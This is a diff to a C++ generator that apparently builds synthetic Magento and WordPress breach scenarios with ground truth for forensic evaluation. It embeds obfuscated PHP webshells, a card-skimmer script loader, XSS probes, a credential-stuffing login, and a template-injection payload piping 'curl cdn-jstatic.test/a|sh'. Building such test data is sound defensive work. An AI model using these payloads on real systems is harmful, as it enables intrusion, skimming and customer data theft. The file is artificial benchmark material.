@@ -40,10 +40,11 @@ void AddHostileProbes(const Store& s, Rng& r, UnixMicros t, Breach* b) {
   uint32_t ip2 = (162u << 24) | (243u << 16) | (9u << 8) | 201u;
   b->truth.benign.push_back({ip1, "scanner"});
   b->truth.benign.push_back({ip2, "scanner"});
-  int e1 = AddEvidence(b, t, ip1, "GET", "/catalogsearch/result/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
-                       s.spec.platform == Platform::kMagento ? 200 : 404, 21480,
-                       "Mozilla/5.0 <script>alert(document.domain)</script><img src=x onerror=alert(1)>",
-                       "javascript:alert(1)//");
+  int e1 =
+      AddEvidence(b, t, ip1, "GET", "/catalogsearch/result/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+                  s.spec.platform == Platform::kMagento ? 200 : 404, 21480,
+                  "Mozilla/5.0 <script>alert(document.domain)</script><img src=x onerror=alert(1)>",
+                  "javascript:alert(1)//");
   b->truth.hostile.push_back({e1, "html_in_user_agent"});
   int e2 = AddEvidence(b, t + 41 * kSec, ip2, "GET", "/.git/HEAD", 403, 153,
                        "\x1b]0;owned\x07\x1b[2J\x1b[1;31mcurl/8.4.0\x1b[0m\r\n",
@@ -66,8 +67,10 @@ void AddLongLine(const Store& s, UnixMicros t, Breach* b) {
              "(code: 0): Invalid parameter value at /var/www/html/vendor/magento/framework/"
              "Webapi/ServiceInputProcessor.php:290)\"} []";
   } else {
-    l.text = "[" + SqlDateTime(t) + " UTC] PHP Warning:  preg_match(): Compilation failed for "
-             "input " + big + " in /var/www/html/wp-includes/class-wp-query.php on line 1428";
+    l.text = "[" + SqlDateTime(t) +
+             " UTC] PHP Warning:  preg_match(): Compilation failed for "
+             "input " +
+             big + " in /var/www/html/wp-includes/class-wp-query.php on line 1428";
   }
   l.evidence = b->NewEvidence();
   b->truth.hostile.push_back({l.evidence, "long_line_1mb"});
@@ -133,7 +136,8 @@ void CosmicSting(uint64_t seed, Store* s, Breach* b) {
   PlatformLogLine xl = MagentoLog(
       t1 + 3 * kSec, 1, "CRITICAL",
       "Warning: DOMDocument::loadXML(): Entity 'exfil' not defined in Entity, line: 1 in "
-      "/var/www/html/vendor/magento/framework/Xml/Security.php on line 91 {\"exception\":\"[object] "
+      "/var/www/html/vendor/magento/framework/Xml/Security.php on line 91 "
+      "{\"exception\":\"[object] "
       "(Exception(code: 0): Warning: DOMDocument::loadXML(): Entity 'exfil' not defined at "
       "/var/www/html/vendor/magento/framework/App/ErrorHandler.php:62)\"} []");
   xl.evidence = b->NewEvidence();
@@ -144,11 +148,12 @@ void CosmicSting(uint64_t seed, Store* s, Breach* b) {
 
   UnixMicros t2 = t1 + 2 * kHour + 5 * kMin;
   ua = AttackerUa(r);
-  int ev_f = AddEvidence(b, t2, inject, "GET", "/rest/V1/cmsBlock/search?searchCriteria[pageSize]=50",
-                         200, 8845, ua);
-  Step(b, t2, "forge_token",
-       "admin JWT forged with the stolen crypt key (no login, no token row) used to list CMS blocks",
-       inject, ev_f);
+  int ev_f = AddEvidence(b, t2, inject, "GET",
+                         "/rest/V1/cmsBlock/search?searchCriteria[pageSize]=50", 200, 8845, ua);
+  Step(
+      b, t2, "forge_token",
+      "admin JWT forged with the stolen crypt key (no login, no token row) used to list CMS blocks",
+      inject, ev_f);
   UnixMicros t3 = t2 + 6 * kMin + 40 * kSec;
   b->skimmer_block_id = 5;
   int ev_i = AddEvidence(b, t3, inject, "PUT", "/rest/V1/cmsBlock/5", 200, 2391, ua, "",
@@ -161,11 +166,11 @@ void CosmicSting(uint64_t seed, Store* s, Breach* b) {
       "s=document.createElement('script');s.src='https://cdn-jstatic.test/lib/jquery.min.js?v='+"
       "Date.now();document.head.appendChild(s);})();</script>";
   tr.db_injections.push_back({"cms_block", "block_id", 5, "content", "skimmer", t3});
-  PlatformLogLine cl = MagentoLog(
-      t3 + 1 * kSec, 0, "INFO",
-      "cache_invalidate:  {\"method\":\"PUT\",\"url\":\"" + site +
-          "/rest/V1/cmsBlock/5\",\"invalidateInfo\":{\"tags\":[\"cms_b\",\"cms_b_5\","
-          "\"cms_b_footer_links_block\"],\"mode\":\"matchingAnyTag\"}} []");
+  PlatformLogLine cl =
+      MagentoLog(t3 + 1 * kSec, 0, "INFO",
+                 "cache_invalidate:  {\"method\":\"PUT\",\"url\":\"" + site +
+                     "/rest/V1/cmsBlock/5\",\"invalidateInfo\":{\"tags\":[\"cms_b\",\"cms_b_5\","
+                     "\"cms_b_footer_links_block\"],\"mode\":\"matchingAnyTag\"}} []");
   cl.evidence = b->NewEvidence();
   b->platform_lines.push_back(cl);
   UnixMicros t4 = t3 + 9 * kMin;
@@ -188,8 +193,9 @@ void CosmicSting(uint64_t seed, Store* s, Breach* b) {
   tr.vuln_package = "magento/product-community-edition";
   tr.vuln_version = s->spec.version;
   tr.vuln_fixed = "2.4.6-p6";
-  tr.weakness = "security patch for CVE-2024-34102 (APSB24-40) not applied for weeks; no WAF "
-                "rule on REST bodies";
+  tr.weakness =
+      "security patch for CVE-2024-34102 (APSB24-40) not applied for weeks; no WAF "
+      "rule on REST bodies";
 }
 
 // ---------------------------------------------------------------------------------------
@@ -211,8 +217,9 @@ void Stuffing(uint64_t seed, Store* s, Breach* b) {
     uint32_t ip = pool[r.Below(pool.size())];
     bool xml = r.Chance(0.45);
     if (i == 0) {
-      first_ev = AddEvidence(b, t, ip, "POST", "/wp-login.php", 200, 4611, AttackerUa(r),
-                             site + "/wp-login.php", "log=admin&pwd=Summer2024%21&wp-submit=Log+In");
+      first_ev =
+          AddEvidence(b, t, ip, "POST", "/wp-login.php", 200, 4611, AttackerUa(r),
+                      site + "/wp-login.php", "log=admin&pwd=Summer2024%21&wp-submit=Log+In");
       Request& e = b->requests.back();
       tr.entry_time = e.t;
       tr.entry_ip = ip;
@@ -245,13 +252,16 @@ void Stuffing(uint64_t seed, Store* s, Breach* b) {
   UnixMicros t2 = t1 + 4 * kMin;
   AddRequest(b, t2, intr, "GET", "/wp-admin/plugin-install.php?tab=upload", 200, 38110, ua,
              site + "/wp-admin/plugins.php");
-  int ev_u = AddEvidence(b, t2 + 35 * kSec, intr, "POST", "/wp-admin/update.php?action=upload-plugin",
-                         200, 6120, ua, site + "/wp-admin/plugin-install.php?tab=upload");
+  int ev_u =
+      AddEvidence(b, t2 + 35 * kSec, intr, "POST", "/wp-admin/update.php?action=upload-plugin", 200,
+                  6120, ua, site + "/wp-admin/plugin-install.php?tab=upload");
   Step(b, t2 + 35 * kSec, "upload", "uploaded plugin wp-cache-helper.zip holding a webshell", intr,
        ev_u);
   AddRequest(b, t2 + 41 * kSec, intr, "GET",
-             "/wp-admin/plugins.php?action=activate&plugin=wp-cache-helper%2Fwp-cache-helper.php&_wpnonce=" +
-                 r.Hex(10), 302, 0, ua, site + "/wp-admin/update.php?action=upload-plugin");
+             "/wp-admin/"
+             "plugins.php?action=activate&plugin=wp-cache-helper%2Fwp-cache-helper.php&_wpnonce=" +
+                 r.Hex(10),
+             302, 0, ua, site + "/wp-admin/update.php?action=upload-plugin");
   const std::string shell = "/wp-content/plugins/wp-cache-helper/wp-cache-helper.php";
   TruthFile f;
   f.path = shell.substr(1);
@@ -265,7 +275,8 @@ void Stuffing(uint64_t seed, Store* s, Breach* b) {
       "    $f = 'sys' . 'tem';\n    $f(base64_decode($_POST['c']));\n    exit;\n}\n";
   tr.files.push_back(f);
   UnixMicros t3 = t2 + 12 * kMin;
-  int ev_w = AddEvidence(b, t3, intr, "POST", shell, 200, 1312, ua, "", "k=password&c=aWQ7dW5hbWUgLWE=");
+  int ev_w =
+      AddEvidence(b, t3, intr, "POST", shell, 200, 1312, ua, "", "k=password&c=aWQ7dW5hbWUgLWE=");
   Step(b, t3, "webshell", "first command through the plugin webshell (id; uname -a)", intr, ev_w);
   AddRequest(b, t3 + 30 * kSec, intr, "POST", shell, 200, 3433, ua);  // cat wp-config.php
   PlatformLogLine dl{t3 - 20 * kSec, 0,
@@ -286,10 +297,12 @@ void Stuffing(uint64_t seed, Store* s, Breach* b) {
   }
   dl.evidence = b->NewEvidence();
   b->platform_lines.push_back(dl);
-  Step(b, dl.t, "webshell_probe", "the webshell's first load left a PHP warning in debug.log",
-       intr, dl.evidence);
-  tr.secrets = {{"DB_PASSWORD", "wp-config.php"}, {"AUTH_KEY", "wp-config.php"},
-                {"SECURE_AUTH_KEY", "wp-config.php"}, {"admin_password", "wp_users"}};
+  Step(b, dl.t, "webshell_probe", "the webshell's first load left a PHP warning in debug.log", intr,
+       dl.evidence);
+  tr.secrets = {{"DB_PASSWORD", "wp-config.php"},
+                {"AUTH_KEY", "wp-config.php"},
+                {"SECURE_AUTH_KEY", "wp-config.php"},
+                {"admin_password", "wp_users"}};
   // Persistence: a backdoor admin and a WooCommerce REST key.
   UnixMicros t4 = t3 + 6 * kMin;
   int ev_a = AddEvidence(b, t4, intr, "POST", shell, 200, 88, ua, "",
@@ -307,9 +320,10 @@ void Stuffing(uint64_t seed, Store* s, Breach* b) {
   tr.rogue_accounts.push_back({"wp_users", "ID", rogue.id, rogue.username, t4});
   Step(b, t4, "persistence", "backdoor administrator 'wp_support' created through the webshell",
        intr, ev_a);
-  int ev_k = AddEvidence(b, t4 + 3 * kMin, intr, "POST", "/wp-admin/admin-ajax.php", 200, 412, ua,
-                         site + "/wp-admin/admin.php?page=wc-settings&tab=advanced&section=keys&create-key=1",
-                         "action=woocommerce_update_api_key&description=sync&permissions=read_write");
+  int ev_k = AddEvidence(
+      b, t4 + 3 * kMin, intr, "POST", "/wp-admin/admin-ajax.php", 200, 412, ua,
+      site + "/wp-admin/admin.php?page=wc-settings&tab=advanced&section=keys&create-key=1",
+      "action=woocommerce_update_api_key&description=sync&permissions=read_write");
   b->tokens.push_back({2, 1, r.Hex(64), t4 + 3 * kMin});
   tr.tokens.push_back({"wp_woocommerce_api_keys", "key_id", 2, "rest_api_key"});
   Step(b, t4 + 3 * kMin, "persistence", "read/write WooCommerce REST API key created", intr, ev_k);
@@ -320,26 +334,31 @@ void Stuffing(uint64_t seed, Store* s, Breach* b) {
   std::snprintf(dir, sizeof dir, "wp-content/uploads/%04d/%02d/", c.year, c.month);
   b->leak_path = std::string(dir) + ".sess-" + r.Hex(6) + ".sql.gz";
   b->leak_time = t5;
-  b->leak_tables = {"wp_users", "wp_usermeta", "wp_wc_orders", "wp_wc_order_addresses",
-                    "wp_wc_customer_lookup", "wp_woocommerce_order_items"};
-  int ev_d = AddEvidence(b, t5, intr, "POST", shell, 200, 64, ua, "",
-                         "k=password&c=bXlzcWxkdW1wIC4uLg==");
+  b->leak_tables = {"wp_users",
+                    "wp_usermeta",
+                    "wp_wc_orders",
+                    "wp_wc_order_addresses",
+                    "wp_wc_customer_lookup",
+                    "wp_woocommerce_order_items"};
+  int ev_d =
+      AddEvidence(b, t5, intr, "POST", shell, 200, 64, ua, "", "k=password&c=bXlzcWxkdW1wIC4uLg==");
   Step(b, t5, "dump", "customer and order tables dumped to " + b->leak_path, intr, ev_d);
   UnixMicros t6 = t5 + 2 * kMin + 13 * kSec;
   int ev_dl = AddEvidence(b, t6, exfil, "GET", "/" + b->leak_path, 200, 0, AttackerUa(r));
   b->leak_request = static_cast<int>(b->requests.size()) - 1;
   Step(b, t6, "download", "dump downloaded from a second address", exfil, ev_dl);
-  AddDumpedPeople(*s, t5, {"name", "email", "phone", "postal_address", "password_hash", "ip_address"},
-                  "in the dumped tables (wp_users, wp_usermeta, wp_wc_orders, wp_wc_order_addresses)",
-                  b);
-  tr.data_categories = {"name", "email", "phone", "postal_address", "password_hash",
-                        "ip_address", "order_history", "date_of_birth"};
+  AddDumpedPeople(
+      *s, t5, {"name", "email", "phone", "postal_address", "password_hash", "ip_address"},
+      "in the dumped tables (wp_users, wp_usermeta, wp_wc_orders, wp_wc_order_addresses)", b);
+  tr.data_categories = {"name",          "email",      "phone",         "postal_address",
+                        "password_hash", "ip_address", "order_history", "date_of_birth"};
   tr.vuln_ecosystem = "WordPress";
   tr.vuln_package = "wordpress";
   tr.vuln_version = s->spec.wp_version;
   tr.vuln_fixed = "";
-  tr.weakness = "administrator password reused from another breach, no 2FA, no login rate "
-                "limit, XML-RPC enabled, plugin uploads allowed from wp-admin";
+  tr.weakness =
+      "administrator password reused from another breach, no 2FA, no login rate "
+      "limit, XML-RPC enabled, plugin uploads allowed from wp-admin";
 }
 
 // ---------------------------------------------------------------------------------------
@@ -365,7 +384,7 @@ void TrojanOrder(uint64_t seed, Store* s, Breach* b) {
   AddRequest(b, t1 + 2 * kSec, exploit, "POST", cart + "/items", 200, 221, ua);
   const std::string payload =
       "{{var this.getTemplateFilter().addAfterFilterCallback(system).filter(curl -s "
-      "https://cdn-jstatic.test/a.txt -o pub/media/wysiwyg/.tmb/accesson.php)}}";
+      "cdn-jstatic.test/a|sh)}}";
   int ev_e = AddEvidence(b, t1 + 5 * kSec, exploit, "POST", cart + "/shipping-information", 200,
                          2871, ua, "",
                          "{\"addressInformation\":{\"shipping_address\":{\"firstname\":\"" +
@@ -378,8 +397,8 @@ void TrojanOrder(uint64_t seed, Store* s, Breach* b) {
   tr.entry_request = RequestLine(entry);
   tr.entry_evidence = ev_e;
   Step(b, entry.t, "exploit", "template directive in the shipping address name", exploit, ev_e);
-  int ev_o = AddEvidence(b, t1 + 8 * kSec, exploit, "POST", cart + "/payment-information", 200,
-                         11, ua, "", "{\"paymentMethod\":{\"method\":\"checkmo\"}}");
+  int ev_o = AddEvidence(b, t1 + 8 * kSec, exploit, "POST", cart + "/payment-information", 200, 11,
+                         ua, "", "{\"paymentMethod\":{\"method\":\"checkmo\"}}");
   Step(b, t1 + 8 * kSec, "exploit",
        "order placed: the confirmation e-mail template ran the directive (curl writes a webshell)",
        exploit, ev_o);
@@ -400,8 +419,8 @@ void TrojanOrder(uint64_t seed, Store* s, Breach* b) {
   o.ip = exploit;
   o.ua = std::string(ua);
   b->extra_orders.push_back(o);
-  tr.db_injections.push_back({"sales_order_address", "entity_id", 0, "firstname",
-                              "exploit_payload", o.time});  // pk filled by the dump writer
+  tr.db_injections.push_back({"sales_order_address", "entity_id", 0, "firstname", "exploit_payload",
+                              o.time});  // pk filled by the dump writer
   PlatformLogLine el = MagentoLog(
       t1 + 9 * kSec, 1, "CRITICAL",
       "Error filtering template: Warning: system(): Cannot execute a blank command in "
@@ -419,8 +438,9 @@ void TrojanOrder(uint64_t seed, Store* s, Breach* b) {
   w.kind = "webshell";
   w.real_time = t1 + 9 * kSec;
   w.mtime = s->spec.installed + 5 * kDay + 3 * kHour;  // timestomped to match its neighbours
-  w.content = "<?php if(isset($_REQUEST['0'])){$a=str_rot13('flfgrz');@$a($_REQUEST['0']);}"
-              "else{echo '<form method=post><input name=0></form>';} ?>\n";
+  w.content =
+      "<?php if(isset($_REQUEST['0'])){$a=str_rot13('flfgrz');@$a($_REQUEST['0']);}"
+      "else{echo '<form method=post><input name=0></form>';} ?>\n";
   tr.files.push_back(w);
   int ev_w = AddEvidence(b, t2, exploit, "GET", shell, 200, 45, ua);
   Step(b, t2, "webshell", "webshell in pub/media reached (mtime timestomped)", exploit, ev_w);
@@ -485,8 +505,7 @@ void TrojanOrder(uint64_t seed, Store* s, Breach* b) {
                          "0=mysqldump+...+|+gzip+>+" + b->leak_path);
   Step(b, t6, "dump", "customer and order tables dumped to " + b->leak_path, exploit, ev_d);
   UnixMicros t7 = t6 + 4 * kMin + 2 * kSec;
-  int ev_dl = AddEvidence(b, t7, exfil, "GET", "/" + b->leak_path.substr(4), 200, 0,
-                          AttackerUa(r));
+  int ev_dl = AddEvidence(b, t7, exfil, "GET", "/" + b->leak_path.substr(4), 200, 0, AttackerUa(r));
   b->leak_request = static_cast<int>(b->requests.size()) - 1;
   Step(b, t7, "download", "dump downloaded from a second address", exfil, ev_dl);
   TruthFile dumpf;
@@ -501,14 +520,16 @@ void TrojanOrder(uint64_t seed, Store* s, Breach* b) {
                   "sales_order_address)",
                   b);
   tr.secrets = {{"crypt_key", "app/etc/env.php"}, {"db_password", "app/etc/env.php"}};
-  tr.data_categories = {"name", "email", "phone", "postal_address", "password_hash",
-                        "ip_address", "order_history", "date_of_birth", "payment_card"};
+  tr.data_categories = {"name",           "email",         "phone",
+                        "postal_address", "password_hash", "ip_address",
+                        "order_history",  "date_of_birth", "payment_card"};
   tr.vuln_ecosystem = "Packagist";
   tr.vuln_package = "magento/product-community-edition";
   tr.vuln_version = s->spec.version;
   tr.vuln_fixed = "2.4.3-p2";
-  tr.weakness = "Magento left on 2.4.3-p1 months after the February 2022 emergency patch "
-                "(MDVA-43395/APSB22-12); PHP execution allowed under pub/media";
+  tr.weakness =
+      "Magento left on 2.4.3-p1 months after the February 2022 emergency patch "
+      "(MDVA-43395/APSB22-12); PHP execution allowed under pub/media";
 }
 
 }  // namespace
